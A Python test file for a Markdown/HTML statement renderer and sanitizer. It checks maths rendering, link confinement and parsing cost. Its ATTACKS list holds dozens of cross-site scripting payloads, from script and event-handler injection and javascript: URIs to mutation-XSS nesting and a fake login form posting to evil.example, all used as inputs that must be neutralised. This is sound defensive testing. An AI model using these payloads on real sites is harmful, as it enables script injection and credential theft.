"""Statements as HTML: maths comes through as it is, and nothing that acts does."""

import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typing_extensions import override

from apps.problems.domain import STATEMENT_CHARS_MAX
from apps.problems.rendering import COSTLY_MAX, TAGS, render_statement, sanitize

FILES = "/api/code-execution/problems/7/files/"
LINKS = re.compile(r"(https?://|mailto:)[^\s\\]+|/api/code-execution/problems/7/files/[\w./+-]+")
ATTRIBUTES = frozenset({
    *("href", "src", "alt", "title", "rel", "class", "align", "start"),
    *("width", "height", "colspan", "rowspan"),
})


class Findings(HTMLParser):
    """Reads HTML as a parser that had no part in writing it, and notes what should not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name in {"href", "src"} and not LINKS.fullmatch(value or ""):
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and not (value or "").startswith(FILES):
                self.found.append(f"{tag} {name}={value}")
        names = dict(attrs)
        if tag == "a" and names.get("rel") != "noopener noreferrer nofollow":
            self.found.append("a link without rel")

    @override
    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    @override
    def handle_decl(self, decl: str) -> None:
        self.found.append("a declaration")


def render(text: str) -> str:
    return render_statement(text, files_url=FILES)


def findings(html: str) -> list[str]:
    reader = Findings()
    reader.feed(html)
    reader.close()
    return reader.found


ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onload="alert(1)" style="position:fixed">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div id=content-main name=x class=submit-row>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a><a href='/\\evil.example'>x</a><a href='\\\\evil.example'>x</a>",
    "<a href='/admin/logout/'>x</a><a href='#top'>x</a><a href='?next=x'>x</a>",
    "<a href='../../users/'>x</a><a href='a/../../x'>x</a><a href='%2e%2e/x'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_top ping=https://evil.example>x</a>",
    "<p onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<img srcset='https://evil.example/x 1x'><picture><source srcset=https://evil.example></picture>",
    "<a><b></a><script></b>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x><x:script xmlns:x='http://www.w3.org/1999/xhtml'/>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example/\" onmouseover='alert(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](x.png)',
    '![x](x.png "\\" onerror=alert(1)")',
    "![<script>alert(1)</script>](x.png)",
    '```"><script>alert(1)</script>\nx\n```',
    "```cpp\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "$</span><script>alert(1)</script>$",
    "$$\n</span></p><img src=x onerror=alert(1)>\n$$",
    "a $\\href{javascript:alert(1)}{x}$ $\\unicode{<script>}$",
    '| <script>alert(1)</script> |\n|:--" onclick="x|\n| x |',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "> <script>\n> alert(1)\n> </script>",
    "- <img src=x\n  onerror=alert(1)>",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through(attack: str) -> None:
    for text in (attack, f"text {attack} text", f"# {attack}", f"**{attack}**", f"- {attack}"):
        html = render(text)

        assert findings(html) == []
        assert findings(sanitize(html, files_url=FILES)) == []


FRAGMENTS = st.sampled_from([
    *ATTACKS,
    *(
        "<",
        ">",
        '"',
        "'",
        "&",
        "`",
        "```",
        "$",
        "$$",
        "*",
        "_",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\\",
        "\n",
    ),
    *("\n\n", "    ", "<b>", "</p>", "<pre>", "<a href=", "<table>", "<td>", "|", "|-|", "x", "\0"),
    *("&#106;", "<!--", "-->", "javascript:", "onerror=", "=", "/", "\t", "\r", "\x0c", "\u2028"),
])


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=12).map("".join))
def test_no_mixture_acts_either(text: str) -> None:
    html = render(text)

    assert findings(html) == []
    assert findings(sanitize(html, files_url=FILES)) == []


@pytest.mark.parametrize(
    "tex",
    [
        r"a_1 * b_2 * c_3",
        r"x_i < y_j > z & w",
        r"\{1, 2\} \\ \text{[a](b)}",
        r"\sum_{i=1}^n a_i \_ \* `x` ~~y~~",
        r"<script>alert(1)</script>",
        r"a \$ b",
        r"\left|x\right|",
        r"'x' -- \"y\" ...",
        r"&lt; &amp;",
        r"![a](b) https://example.org **b**",
    ],
)
def test_maths_stays_as_it_was_written(tex: str) -> None:
    inline, display = render(f"Let ${tex}$ be *it*."), render(f"so\n\n$$\n{tex}\n$$\n")

    assert (
        unescape(inline)
        == f'<p>Let <span class="math inline">\\({tex}\\)</span> be <em>it</em>.</p>\n'
    )
    assert f'<p><span class="math display">\\[{tex}\\]</span></p>' in unescape(display)


def test_display_maths_may_stand_within_a_line_and_over_lines() -> None:
    assert '<p>a <span class="math display">\\[x*y*z\\]</span> b</p>' in render("a $$x*y*z$$ b")
    assert "\\[a \\\\\nb\\]" in render("$$\na \\\\\nb\n$$")


def test_an_escaped_dollar_and_code_are_no_maths() -> None:
    html = render(r"It costs \$5, `$x$` and more.")

    assert html == "<p>It costs $5, <code>$x$</code> and more.</p>\n"


def test_tables_lists_and_code_are_rendered() -> None:
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n```cpp\nint x;\n```\n\n3. c\n")

    assert '<th align="right">a</th>' in html
    assert '<td align="center">2</td>' in html
    assert '<pre><code class="language-cpp">int x;\n</code></pre>' in html
    assert '<ol start="3">' in html


def test_pictures_and_links_lead_to_the_problems_own_files() -> None:
    html = render("![a tree](pictures/tree.png) [more](./notes.txt) [x](https://example.org/a?b=c)")

    assert f'<img src="{FILES}pictures/tree.png" alt="a tree">' in html
    assert f'href="{FILES}notes.txt"' in html
    assert 'href="https://example.org/a?b=c"' in html


def test_a_picture_of_another_host_leaves_its_text() -> None:
    assert render("![a tree](https://example.org/tree.png)") == '<p><img alt="a tree"></p>\n'


def test_without_files_there_are_no_links_to_them() -> None:
    html = render_statement("![a](tree.png) [b](notes.txt)")

    assert "src=" not in html
    assert "href=" not in html


def test_latex_is_shown_as_it_is() -> None:
    html = render_statement(r"\section{A} $x<y$ <b>*z*</b>", "latex")

    assert html == "<pre>\\section{A} $x&lt;y$ &lt;b&gt;*z*&lt;/b&gt;</pre>\n"


def test_rendering_what_is_rendered_changes_nothing() -> None:
    html = render("# A\n\n$x<y$ **b** ![a](b.png)\n\n| a |\n|--:|\n| <b>c |\n\n- d\n  - e\n")

    assert sanitize(html, files_url=FILES) == html


@pytest.mark.parametrize("text", ["[" * (COSTLY_MAX + 1), "<b>" * (COSTLY_MAX + 1)])
def test_a_text_that_would_take_long_is_shown_as_it_is(text: str) -> None:
    assert unescape(render(text)) == f"<pre>{text}</pre>\n"


@pytest.mark.parametrize(
    "piece",
    ["*a ", "`a``b", "> ", "- ", "* a\n ", "$", "$a$$b", "<!--", "&", "_a*b_", "a\n", "$$\na\n\n"],
)
def test_the_time_grows_with_the_length_only(piece: str) -> None:
    def seconds_for(chars: int) -> float:
        text = piece * (chars // len(piece))
        took = []
        for _ in range(3):
            render_statement.cache_clear()
            start_s = time.process_time()
            render(text)
            took.append(time.process_time() - start_s)
        return min(took)

    small, large = STATEMENT_CHARS_MAX // 64, STATEMENT_CHARS_MAX // 8
    # Eight times the text; a quadratic rule would take 64 times as long.
    assert seconds_for(large) <= 24 * seconds_for(small) + 0.05


@pytest.mark.parametrize("piece", ["[", "![", "[a](", "[a][", "<div>", "<a>", "<table><td>"])
def test_what_costs_most_is_bounded(piece: str) -> None:
    text = piece * (COSTLY_MAX // len(re.findall(r"\[|<[a-z]", piece)))
    render_statement.cache_clear()

    start_s = time.process_time()
    html = render(text)

    assert not html.startswith("<pre>")
    assert time.process_time() - start_s < 5
